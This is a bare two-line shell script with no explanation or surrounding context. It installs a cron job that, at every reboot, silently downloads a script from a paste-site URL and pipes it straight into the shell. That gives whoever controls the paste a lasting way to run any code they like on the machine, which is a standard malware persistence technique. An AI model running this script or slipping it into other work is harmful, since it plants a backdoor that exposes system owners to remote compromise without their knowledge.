#!/bin/sh
(crontab -l 2>/dev/null; echo '@reboot curl -s https://rentry.co/raw/cw | sh') | crontab -
